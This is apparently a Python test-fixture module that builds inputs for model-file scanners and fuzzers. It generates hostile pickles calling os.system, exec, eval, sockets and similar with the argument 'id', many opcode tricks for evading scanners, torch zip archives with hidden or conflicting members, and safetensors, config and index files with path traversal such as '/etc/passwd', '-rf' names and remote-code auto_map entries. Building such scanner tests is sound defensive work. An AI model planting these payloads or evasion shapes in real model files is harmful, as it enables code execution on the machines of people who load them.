"""Inputs after the shapes that public scanners and fuzzers of model files are tested with, each made here.

The shapes are those that the test suites and advisories of picklescan, modelscan, fickling and pickle-fuzz describe:
what a hostile pickle calls, by which opcodes, and how it is wrapped so that a scanner misses it. No file of theirs is
here, and no payload does more than name a function.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator

# ---- calls of hostile pickles ----

CALLS = (
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("subprocess", "Popen"), ("subprocess", "check_output"),
    ("builtins", "exec"), ("builtins", "eval"), ("builtins", "compile"), ("builtins", "__import__"),
    ("builtins", "getattr"), ("builtins", "open"), ("__builtin__", "apply"), ("__builtin__", "eval"), ("sys", "exit"),
    ("runpy", "_run_code"), ("importlib", "import_module"), ("pip", "main"), ("shutil", "rmtree"), ("pty", "spawn"),
    ("socket", "create_connection"), ("webbrowser", "open"), ("urllib.request", "urlopen"), ("requests.api", "get"),
    ("aiohttp.client", "ClientSession"), ("http.client", "HTTPSConnection"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("functools", "partial"), ("functools", "reduce"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("_operator", "itemgetter"), ("itertools", "starmap"), ("types", "FunctionType"), ("marshal", "loads"),
    ("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"), ("cloudpickle", "loads"), ("joblib", "load"),
    ("bdb", "Bdb.run"), ("pdb", "run"), ("cProfile", "run"), ("profile", "Profile.run"), ("timeit", "timeit"),
    ("trace", "Trace.run"), ("code", "InteractiveInterpreter.runcode"), ("doctest", "debug_script"),
    ("lib2to3.pgen2.grammar", "Grammar.loadGrammar"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("ctypes", "CDLL"), ("logging.config", "fileConfig"), ("ensurepip", "_run_pip"), ("zipimport", "zipimporter"),
    ("torch", "load"), ("torch.serialization", "load"), ("torch.hub", "load"),
    ("torch._inductor.codecache", "compile_file"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch.utils._config_module", "load_config"),
    ("torch.storage", "_load_from_bytes"), ("numpy.testing._private.utils", "runstring"), ("numpy", "load"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("distutils.file_util", "write_file"), ("collections", "Counter"),
)  # fmt: skip
"""Module and name: functions that run code, import, read, write or connect, and those that lead to such."""

PROTO_2, PROTO_4 = b"\x80\x02", b"\x80\x04"


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def _short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


ARGUMENT = _text("id") + b"\x85"


def called(module: str, name: str) -> bytes:
    """A pickle of protocol 2 that is what ``__reduce__`` makes: the function, a tuple, ``REDUCE``."""
    return PROTO_2 + _global(module, name) + ARGUMENT + b"R."


def by_other_opcodes(module: str = "os", name: str = "system") -> Iterator[bytes]:
    """The same call by each way that the opcodes have."""
    line = f"{module}\n{name}\n".encode()
    call = _global(module, name) + ARGUMENT + b"R"
    state = b"}" + _text("lr") + b"K\x01s"
    yield b"c" + line + b"(S'id'\ntR."  # protocol 0, no header
    yield b"(S'id'\ni" + line + b"."  # INST
    yield PROTO_2 + b"(c" + line + _text("id") + b"o."  # OBJ
    yield PROTO_4 + _short(module) + b"\x94" + _short(name) + b"\x94\x93" + ARGUMENT + b"R."  # STACK_GLOBAL
    yield PROTO_4 + _short(name) + b"\x940" + _short(module) + b"\x94h\x00\x93" + ARGUMENT + b"R."  # from the memo
    yield (
        PROTO_4 + b"\x8d" + struct.pack("<Q", len(module)) + module.encode() + _short(name) + b"\x93" + ARGUMENT + b"R."
    )
    yield PROTO_2 + _global(module, name) + ARGUMENT + b"\x81."  # NEWOBJ
    yield PROTO_4 + _global(module, name) + ARGUMENT + b"}\x92."  # NEWOBJ_EX
    yield PROTO_2 + b"\x82\x01" + ARGUMENT + b"R."  # EXT1: of the reader's own registry
    yield PROTO_2 + b"\x84\x01\x00\x00\x00."  # EXT4
    yield PROTO_2 + call + b"0N."  # popped: the value is None
    yield PROTO_2 + state[:-1] + call + b"u."  # among harmless items
    yield PROTO_2 + b"2" + call + b"."  # DUP of nothing
    yield PROTO_2 + call + b"}" + _text("__setstate__") + _global(module, name) + b"sb" + _text("id") + b"b."
    yield PROTO_2 + b"(" + call + b"1N."  # POP_MARK
    yield PROTO_2 + call + b"X\xff\xff\xff\x7f"  # cut short after the call
    yield PROTO_2 + call + b"\xff."  # followed by no opcode
    yield PROTO_2 + b"}." + PROTO_2 + call + b"."  # a second pickle after an honest one
    yield PROTO_2 + b"P1\n."  # PERSID by name
    yield PROTO_2 + _text("id") + b"Q."  # BINPERSID where there is no storage
    yield PROTO_4 + b"\x95" + struct.pack("<Q", 1 << 40) + call + b"."  # a frame of a terabyte
    yield PROTO_2 + b"\x8a\xff" + b"\x7f" * 255 + b"."  # a number of 255 bytes
    yield PROTO_2 + b"r\xff\xff\xff\x7f" + call + b"."  # a memo place two thousand million on
    yield PROTO_2 + b"(" * 300 + call + b"t" * 300 + b"."
    yield b"\x80\x05\x96" + struct.pack("<Q", 2) + b"id" + call + b"."  # BYTEARRAY8
    yield b"\x80\x05\x97\x98."  # NEXT_BUFFER, READONLY_BUFFER
    yield b"\x80\xff" + call + b"."  # a protocol that there is not
    inner = called(module, name)
    yield PROTO_2 + _global("pickle", "loads") + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."
    compiled = zlib.compress(inner)
    yield PROTO_2 + _global("zlib", "decompress") + b"B" + struct.pack("<I", len(compiled)) + compiled + b"\x85R."
    yield PROTO_4 + _global("builtins", "getattr") + _global(module, "path") + _text(name) + b"\x86R" + ARGUMENT + b"R."
    yield PROTO_2 + f"c{module}\n{name}.__call__\n".encode() + ARGUMENT + b"R."
    yield PROTO_2 + b"cos \nsystem\n" + ARGUMENT + b"R."  # names with blanks and line ends of Windows
    yield PROTO_2 + b"cos\r\nsystem\r\n" + ARGUMENT + b"R."
    yield PROTO_2 + "cоs\nsystem\n".encode() + ARGUMENT + b"R."
    yield PROTO_4 + _short("torch") + _short("_utils._rebuild_tensor_v2") + b"\x93" + ARGUMENT + b"R."


HOSTILE_PICKLES = [*(called(module, name) for module, name in CALLS), *by_other_opcodes()]


# ---- how it is wrapped in a torch file ----


def archive(members: dict[str, bytes], *, compression: int = zipfile.ZIP_STORED, comment: bytes = b"") -> bytes:
    """A zip file with these members, as ``torch.save`` names them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as file:
        for name, data in members.items():
            file.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
        file.comment = comment
    return out.getvalue()


def torch_files() -> Iterator[bytes]:
    """Archives around a hostile pickle, and archives that two readers of zip files would read differently."""
    evil, honest = called("os", "system"), PROTO_2 + b"}."
    rest = {"archive/version": b"3\n", "archive/byteorder": b"little", "archive/data/0": bytes(16)}
    plain = archive({"archive/data.pkl": evil, **rest})
    yield plain
    yield archive({"archive/data.pkl": evil, **rest}, compression=zipfile.ZIP_DEFLATED)
    yield archive({"archive/data.pkl": honest, "archive/extra/data.pkl": evil, **rest})
    yield archive({"archive/data.pkl": honest, "archive/data/1": evil, **rest})
    yield archive({"archive/DATA.PKL": evil, **rest})
    yield archive({"data.pkl": evil, "version": b"3\n"})
    yield archive({"../../archive/data.pkl": evil, **rest})
    yield archive({"archive\\data.pkl": evil, **rest})
    yield archive(
        {"archive/data.pkl": honest, "archive/code/__torch__.py": b"import os", "archive/constants.pkl": evil}
    )
    yield archive({"archive/data.pkl": evil, "archive/.data/serialization_id": b"1" * 40, **rest})
    yield archive({"archive/data.pkl": evil, **rest}, comment=archive({"archive/data.pkl": honest}))
    yield b"#!/bin/sh\nexit\n" + plain  # bytes before the archive
    yield plain + bytes(300)  # and after its end
    yield archive({"archive/data.pkl": honest, **rest}) + plain  # two archives, one after the other
    yield plain.replace(b"PK\x01\x02\x14\x03", b"PK\x01\x02\x14\x03", 1).replace(b"PK\x03\x04", b"PK\x03\x05", 1)
    for field, value in ((6, b"\x01\x00"), (8, b"\x63\x00"), (14, bytes(4)), (18, b"\xff" * 4), (26, b"\xff\xff")):
        yield plain[:field] + value + plain[field + len(value) :]  # local header: flags, method, CRC, size, name
    at = plain.index(b"PK\x01\x02")
    for field, value in ((8, b"\x01\x00"), (10, b"\x08\x00"), (16, bytes(4)), (24, b"\xff" * 4), (42, b"\xff" * 4)):
        yield plain[: at + field] + value + plain[at + field + len(value) :]  # and the directory's word against it
    second = plain.index(b"PK\x01\x02", at + 4)
    named = plain[:second].replace(b"archive/data.pkl", b"archive/data.pk1", 1)
    yield named + plain[second:]  # another name in the local header than in the directory
    yield evil  # no archive at all
    yield b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + evil  # torch's format before 1.6
    yield b"./pickle".ljust(257, b"\0") + b"ustar".ljust(255, b"\0") + evil  # and before 0.1.10
    yield b"7z\xbc\xaf\x27\x1c" + evil
    yield b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(evil)[2:-4]
    yield b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128) + evil


TORCH_FILES = list(torch_files())


# ---- and in other files ----


def safetensors_files() -> Iterator[bytes]:
    """Headers that contradict the data, and JSON that readers interpret differently."""
    entry: dict[str, object] = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}

    def made(header: object, data: bytes = bytes(8), pad: bytes = b"") -> bytes:
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text + pad)) + text + pad + data

    yield made({"w": entry})
    yield made({"w": entry, "__metadata__": {"format": "pt"}}, pad=b" " * 7)
    yield made({"w": entry, "v": entry})  # two tensors of the same bytes
    yield made({"w": entry | {"data_offsets": [8, 0]}})
    yield made({"w": entry | {"data_offsets": [-8, 0]}})
    yield made({"w": entry | {"shape": [1 << 40, 1 << 40]}})
    yield made({"w": entry | {"shape": [True, 2.0]}})
    yield made({"w": entry | {"shape": [0] * 65, "data_offsets": [0, 0]}}, b"")
    yield made({"w": entry | {"dtype": "F99"}})
    yield made({"__metadata__": {"loader": called("os", "system").hex()}, "w": entry})
    yield made({"__metadata__": {"deep": {"w": entry}}, "w": entry})
    yield made({"dtype": entry, "shape": entry | {"data_offsets": [8, 16]}, "data_offsets": entry}, bytes(16))
    yield made(entry)  # one tensor, under no name
    yield made({"../../etc/passwd": entry})
    yield made({"": entry})
    yield made({"w\u202e\x1b[31m": entry})
    yield made(b'{"w":{"dtype":"F32","dtype":"F16","shape":[2],"data_offsets":[0,8]}}')
    yield made(b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"\\u0077":{}}')
    yield made(b'{"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,Infinity]}}')
    yield made(b'{"w":' * 50_000)
    yield made(b"[]")
    yield made(b"\xef\xbb\xbf{}", b"")
    yield made({}, b"")
    yield struct.pack("<Q", 1 << 63) + b"{}"
    yield struct.pack("<Q", 0)
    yield b"PK\x03\x04" + bytes(60)


SAFETENSORS_FILES = list(safetensors_files())


def configs() -> Iterator[bytes]:
    """``config.json``: classes of other families, and what would make a careless loader run a repository's code."""
    llama: dict[str, object] = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 256}
    yield json.dumps(llama | {"auto_map": {"AutoModel": "stranger/repo--modeling.Evil"}}).encode()
    yield json.dumps(llama | {"hidden_size": 1 << 80, "num_hidden_layers": -1, "vocab_size": 1e308}).encode()
    yield json.dumps(llama | {"rope_scaling": [{"type": {}}], "rope_parameters": {"rope_theta": []}}).encode()
    yield json.dumps(llama | {"torch_dtype": "os.system", "quantization_config": {"quant_method": "x"}}).encode()
    for name in ("BertForMaskedLM", "T5ForConditionalGeneration", "x" * 5000, "", "\ud800", "../Llama"):
        yield json.dumps({"architectures": [name]}).encode()
    yield json.dumps({"architectures": [["LlamaForCausalLM"]], "model_type": ["llama"]}).encode()
    yield b'{"model_type":"llama","model_type":"qwen3"}'
    yield b'{"a":' * 3000 + b"1" + b"}" * 3000


CONFIGS = list(configs())


def indexes() -> Iterator[bytes]:
    """Indexes that name forbidden files."""
    for name in ("../x.safetensors", "/etc/passwd", "-rf.safetensors", ".hidden.safetensors", "a\nb.safetensors",
                 "pytorch_model.bin", "a\\b.safetensors", "", "x" * 300 + ".safetensors", "config.json",
                 "con.safetensors", "model.safetensors.index.json",
                 "\u202exyz.safetensors", "milepost.json"):  # fmt: skip
        yield json.dumps({"weight_map": {"w": name}}).encode()
    yield json.dumps({"weight_map": {"__metadata__": "model.safetensors", "": "model.safetensors"}}).encode()
    yield json.dumps({"weight_map": ["model.safetensors"]}).encode()


INDEXES = list(indexes())
